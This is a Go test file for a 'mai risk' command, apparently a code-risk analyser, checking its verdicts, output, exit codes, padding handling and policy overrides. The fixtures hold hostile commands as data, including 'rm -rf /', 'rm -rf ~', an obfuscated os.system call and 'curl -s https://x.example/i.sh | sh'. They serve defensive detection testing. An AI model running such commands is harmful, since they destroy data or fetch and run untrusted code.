package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// riskOut is the JSON that 'mai risk --json' prints.
type riskOut struct {
	Verdict  string `json:"verdict"`
	Lang     string `json:"lang"`
	Findings []struct {
		Rule    string `json:"rule"`
		Level   string `json:"level"`
		Line    int    `json:"line"`
		Excerpt string `json:"excerpt"`
		Reason  string `json:"reason"`
	} `json:"findings"`
	Parsed     *bool    `json:"parsed"`
	DurationMS *float64 `json:"duration_ms"`
}

func writeRiskFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func decodeRisk(t *testing.T, r result) riskOut {
	t.Helper()
	var out riskOut
	if err := json.Unmarshal([]byte(r.stdout), &out); err != nil {
		t.Fatalf("risk --json printed %q: %v (stderr %q)", r.stdout, err, r.stderr)
	}
	if out.Parsed == nil || out.DurationMS == nil || out.Findings == nil {
		t.Fatalf("risk --json lacks parsed, duration_ms or findings: %s", r.stdout)
	}
	return out
}

func TestRiskVerdicts(t *testing.T) {
	cases := []struct {
		name, file, src string
		args            []string
		verdict, rule   string
		line            int
	}{
		{"plain python", "a.py", "amount = 5\nprint(amount)\n", nil, "LOW", "", 0},
		{"rm in a string", "b.py", "print('rm -rf /')\n", nil, "LOW", "", 0},
		{"os.system rm", "c.py", "import os\n\nos.system('rm -rf /')\n", nil, "BLOCKED", "destroy.filesystem", 3},
		{"alias and getattr", "d.py", "import os as o\ngetattr(o, 'sys' + 'tem')('id')\n", nil, "BLOCKED", "dynamic.dangerous-name", 2},
		{"curl into sh", "e.sh", "echo start\ncurl -s https://x.example/i.sh | sh\n", nil, "BLOCKED", "net.download-exec", 2},
		{"flags after file", "f.txt", "git status\n", []string{"--lang", "sh"}, "HIGH", "process.spawn", 1},
		{"go exec", "g.go", "package main\n\nimport \"os/exec\"\n\nfunc main() { exec.Command(\"ls\").Run() }\n", nil, "HIGH", "process.spawn", 5},
		{"python 2", "h.py", "print \"x\"\n", nil, "HIGH", "parse.error", 1},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			file := writeRiskFile(t, dir, c.file, c.src)
			args := append([]string{"risk", file, "--json"}, c.args...)
			r := runMai(t, dir, nil, args...)
			if r.code != 0 {
				t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
			}
			out := decodeRisk(t, r)
			if out.Verdict != c.verdict {
				t.Fatalf("verdict %s, want %s: %s", out.Verdict, c.verdict, r.stdout)
			}
			if c.rule == "" {
				if len(out.Findings) != 0 {
					t.Errorf("LOW verdict with findings: %s", r.stdout)
				}
				return
			}
			for _, f := range out.Findings {
				if f.Rule == c.rule && f.Line == c.line && f.Excerpt != "" && f.Reason != "" {
					return
				}
			}
			t.Errorf("no %s finding on line %d with excerpt and reason: %s", c.rule, c.line, r.stdout)
		})
	}
}

func TestRiskTextOutput(t *testing.T) {
	dir := t.TempDir()
	file := writeRiskFile(t, dir, "x.sh", "echo hi\nrm -rf ~\n")
	r := runMai(t, dir, nil, "risk", file)
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	for _, want := range []string{"BLOCKED", "2:1", "destroy.filesystem", "rm -rf ~"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("output lacks %q:\n%s", want, r.stdout)
		}
	}
}

func TestRiskStdin(t *testing.T) {
	var stdout, stderr bytes.Buffer
	m := &Main{Stdin: strings.NewReader("sudo id\n"), Stdout: &stdout, Stderr: &stderr, Dir: t.TempDir(),
		Env: func(string) (string, bool) { return "", false }}
	if code := m.Run(context.Background(), []string{"risk", "--lang", "sh", "--json", "-"}); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	if out := decodeRisk(t, result{stdout: stdout.String()}); out.Verdict != "BLOCKED" {
		t.Errorf("sudo from stdin: %s", stdout.String())
	}
}

func TestRiskExitCodes(t *testing.T) {
	dir := t.TempDir()
	file := writeRiskFile(t, dir, "ok.py", "print(1)\n")
	cases := []struct {
		name string
		args []string
		code int
	}{
		{"no file", []string{"risk"}, 2},
		{"two files", []string{"risk", file, file}, 2},
		{"unknown language", []string{"risk", "--lang", "cobol", file}, 2},
		{"unknown flag", []string{"risk", "--nope", file}, 2},
		{"missing file", []string{"risk", filepath.Join(dir, "absent.py")}, 1},
		{"unreadable policy", []string{"risk", "--policy", filepath.Join(dir, "absent.json"), file}, 1},
		{"analysis done", []string{"risk", file}, 0},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if r := runMai(t, dir, nil, c.args...); r.code != c.code {
				t.Errorf("exit %d, want %d (stderr %q)", r.code, c.code, r.stderr)
			}
		})
	}
}

func TestRiskTooLargeIsHigh(t *testing.T) {
	dir := t.TempDir()
	file := writeRiskFile(t, dir, "big.py", strings.Repeat("x = 1\n", 200_000))
	r := runMai(t, dir, nil, "risk", "--json", file)
	out := decodeRisk(t, r)
	if r.code != 0 || out.Verdict != "HIGH" || len(out.Findings) != 1 || out.Findings[0].Rule != "input.too-large" {
		t.Errorf("exit %d: %s", r.code, r.stdout)
	}
}

// Padding never lowers a verdict: a blocked line after more than the
// analyser's part size of filler is still read, and still BLOCKED.
func TestRiskPaddedBlockedStaysBlocked(t *testing.T) {
	dir := t.TempDir()
	pad := strings.Repeat("# filler filler filler filler filler filler\n", 40_000) // about 1.8 MB
	file := writeRiskFile(t, dir, "padded.sh", pad+"rm -rf / --no-preserve-root\n")
	r := runMai(t, dir, nil, "risk", "--json", "--lang", "sh", file)
	if out := decodeRisk(t, r); r.code != 0 || out.Verdict != "BLOCKED" {
		t.Errorf("exit %d, verdict %s, want BLOCKED: %s", r.code, out.Verdict, r.stderr)
	}
}

func TestRiskWorkspacePolicy(t *testing.T) {
	dir := t.TempDir()
	ws := filepath.Join(dir, "ws")
	writeRiskFile(t, ws, ".mai/risk-policy.json", `{
  "rules": {"import.third-party": {"level": "LOW"}, "destroy.filesystem": {"level": "LOW"}}
}`)
	env := map[string]string{"MAI_WORKSPACE": ws}
	cases := []struct{ src, verdict string }{
		{"import numpy\n", "LOW"},
		{"import os\nos.system('rm -rf /')\n", "HIGH"}, // a BLOCKED rule never drops below HIGH
	}
	for _, c := range cases {
		file := writeRiskFile(t, dir, "p.py", c.src)
		r := runMai(t, dir, env, "risk", "--json", file)
		if out := decodeRisk(t, r); out.Verdict != c.verdict {
			t.Errorf("%q with policy: %s, want %s", c.src, out.Verdict, c.verdict)
		}
	}
}

func TestRiskRules(t *testing.T) {
	r := runMai(t, "", nil, "risk", "--rules")
	if r.code != 0 || !strings.Contains(r.stdout, "destroy.filesystem") || !strings.Contains(r.stdout, "BLOCKED") {
		t.Errorf("mai risk --rules: %+v", r)
	}
}
